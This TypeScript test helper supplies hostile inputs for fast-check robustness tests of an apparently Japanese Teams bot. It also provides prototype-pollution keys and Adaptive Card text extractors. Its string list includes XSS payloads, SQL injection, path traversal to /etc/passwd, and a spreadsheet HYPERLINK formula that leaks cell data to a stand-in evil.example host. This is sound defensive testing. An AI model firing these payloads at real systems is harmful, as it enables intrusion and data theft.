import fc from 'fast-check';
import { binaryString } from './binary-strings';

/**
 * Hostile input shared by the test/integration/hostile-*.test.ts suites: hand-picked strings
 * that have broken real systems, and fast-check arbitraries built around them.
 */

/** Property runs: `n`, times HOSTILE_RUNS_FACTOR to search longer (e.g. HOSTILE_RUNS_FACTOR=20 before a release). */
export function runs(n: number): number {
  const factor = Number(process.env.HOSTILE_RUNS_FACTOR ?? '1');
  return Number.isFinite(factor) && factor > 0 ? Math.ceil(n * factor) : n;
}

/** Markdown that Teams would format if a card showed it unescaped; plainText() must escape it. */
export const MARKDOWN_PROBE = '**太字** [リンク](http://evil.example/x) _斜体_ ~~取消~~ `code`';
/** What must never appear in a TextBlock or FactSet (only user input contains it). */
export const RAW_MARKDOWN = ['**太字**', '[リンク](http://evil.example/x)', '`code`'];

/** About 100 KB in UTF-8. */
export const HUGE_TEXT = '長'.repeat(34_000);

export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  '　',
  '\u0000',
  'NUL\u0000入り',
  '\u0001\u0007\u0008\u000b\u000c\u001b[31m赤\u001b[0m\u007f',
  '\r\n\r\n',
  '\r',
  '\t=1+2',
  '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
  '+81-3-0000-0000',
  '-1',
  '@SUM(A1:A9)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</at><at>高橋 直子</at>',
  '<at id="0">本庁区役所連携ボット</at> 承認',
  MARKDOWN_PROBE,
  '# 見出し\n- 箇条書き\n1. 番号\n> 引用',
  '${{ 1+1 }} {{name}} {name} %s %n',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  "'; DROP TABLE inquiries; --",
  '" OR 1=1 --',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  'Q-R8-0001',
  'Q-R8-0004',
  'A1-1',
  'p-hq-approver',
  '6b1e0c3a-0003-4000-8000-000000000003',
  '👨‍👩‍👧‍👦'.repeat(30),
  '🇯🇵🇯🇵',
  'ｶﾞｷﾞｸﾞｹﾞｺﾞ',
  'e\u0301\u0301\u0301\u0301',
  '\u202eevil\u202c',
  '\ufeff',
  '\u2028\u2029',
  '\ud800',
  '\udfff\ud800',
  'x'.repeat(5000),
  HUGE_TEXT,
];

/** Strings: hand-picked most often, plus random text (graphemes, and any code unit sequence). */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 1, arbitrary: binaryString({ maxLength: 40 }) },
);

/** A value of the wrong type where a string (or a number) is expected. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.oneof(fc.string({ maxLength: 8 }), fc.integer()), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
);

/** Mostly the realistic values, often hostile text, sometimes the wrong type. */
export function mostly<T>(realistic: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 4, arbitrary: realistic }, { weight: 2, arbitrary: hostileText }, { weight: 1, arbitrary: wrongType });
}

/** Keys that try to reach Object.prototype, or shadow what the server reads. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'] as const;

/** Adds own properties (never the prototype setter), as JSON.parse would produce them. */
export function withOwnKeys<T extends object>(target: T, entries: [string, unknown][]): T {
  for (const [key, value] of entries) Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
  return target;
}

/** True when a string has a lone surrogate (what a cut through an emoji leaves). */
export function hasLoneSurrogate(text: string): boolean {
  return /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(text);
}

/** Every string anywhere inside a JSON-like value. */
export function stringsIn(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const item of value) stringsIn(item, out);
  else if (value && typeof value === 'object') for (const item of Object.values(value)) stringsIn(item, out);
  return out;
}

/** The texts Teams renders as Markdown in an Adaptive Card: TextBlock and TextRun text, FactSet titles and values. */
export function markdownTextsOf(card: unknown, out: string[] = []): string[] {
  if (Array.isArray(card)) for (const item of card) markdownTextsOf(item, out);
  else if (card && typeof card === 'object') {
    const element = card as Record<string, unknown>;
    if ((element.type === 'TextBlock' || element.type === 'TextRun') && typeof element.text === 'string') out.push(element.text);
    if (element.type === 'FactSet' && Array.isArray(element.facts)) {
      for (const fact of element.facts as { title?: unknown; value?: unknown }[]) {
        if (typeof fact.title === 'string') out.push(fact.title);
        if (typeof fact.value === 'string') out.push(fact.value);
      }
    }
    for (const item of Object.values(element)) markdownTextsOf(item, out);
  }
  return out;
}

/** Japanese text (kana or kanji): every message the bot gives a person is in Japanese first. */
export const JAPANESE = /[\u3040-\u30ff\u4e00-\u9fff]/;
